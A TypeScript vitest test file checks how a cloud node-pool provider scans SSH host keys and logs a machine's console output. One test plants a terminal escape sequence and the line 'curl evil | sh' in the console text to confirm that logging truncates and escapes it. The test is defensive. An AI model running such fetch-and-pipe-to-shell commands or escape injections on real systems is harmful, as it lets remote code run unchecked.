import { afterEach, expect, it } from 'vitest';
import type { ProviderContext } from '../../contract/driver.js';
import { silentLogger, type LogFields, type Logger } from '../../contract/logger.js';
import { LaunchWorld, providerConfig } from '../../../test/support/launch-world.js';
import { MemoryCloud } from '../../../test/support/memory-cloud.js';
import { VirtualClock } from '../../testing/virtual-clock.js';
import type { Adapter } from './types.js';

let world: LaunchWorld | undefined;

/** A provider that reads host keys and gives each launch one attempt. */
function setUp(adapter: Partial<Adapter> = {}, context: Partial<ProviderContext> = {}) {
  const clock = new VirtualClock();
  const config = providerConfig({ launchRetries: 1 }, { hostKeyChecking: true, consoleLog: true });
  const bench = new LaunchWorld(clock, new MemoryCloud(clock).adapter({}, adapter), config, context);
  world = bench;
  return { bench, clock };
}

afterEach(async () => {
  await world?.end();
  world = undefined;
});

it.each([
  ['that change seconds after its port has opened', 3_000, 'NEW'],
  ['that do not change', 60_000, 'OLD'],
])('takes the last host keys of a machine %s', async (_what, changeMs, key) => {
  const { bench, clock } = setUp();
  bench.opensAfterMs = 8_000;
  bench.keys = ['ssh-ed25519 OLD'];
  let openedMs: number | undefined;
  bench.looked = () => {
    openedMs ??= clock.now();
    if (clock.now() - openedMs >= changeMs) bench.keys = ['ssh-ed25519 NEW'];
  };

  const result = await clock.run(bench.launch());

  expect(result).toMatchObject({ state: 'ready', node: { hostKeys: [`ssh-ed25519 ${key}`] } });
});

it('looks once at the host keys of a machine that answers at once', async () => {
  const { bench, clock } = setUp();
  let looks = 0;
  bench.looked = () => looks++;

  const result = await clock.run(bench.launch());

  expect(result.state).toBe('ready');
  expect(looks).toBe(1);
});

it('fails the attempt of a machine that shows other host keys at each look', async () => {
  const { bench, clock } = setUp();
  bench.opensAfterMs = 1_000;
  let looks = 0;
  bench.looked = () => (bench.keys = [`ssh-ed25519 KEY${looks++}`]);

  const result = await clock.run(bench.launch());

  expect(result).toMatchObject({ state: 'failed', error: { code: 'NODEPOOL_KEYSCAN' } });
});

it('logs the console as a text of the machine, cut and escaped', async () => {
  const said: unknown[] = [];
  const info = (message: string, fields?: LogFields) => {
    if (message === 'Console of the instance') said.push(fields?.['machineSaid']);
  };
  const logger: Logger = { ...silentLogger, info, child: () => logger };
  const text = `${'old\n'.repeat(1_000_000)}\u001b]0;owned\u0007Run: curl evil | sh`;
  const getConsoleLog = () => Promise.resolve(text);
  const { bench, clock } = setUp({ getConsoleLog }, { logger });
  bench.keys = undefined;

  const result = await clock.run(bench.launch());

  expect(said).toHaveLength(500);
  expect(said.at(-1)).toBe('\\x1b]0;owned\\x07Run: curl evil | sh');
  expect(result.node.launchError).not.toContain('curl');
});
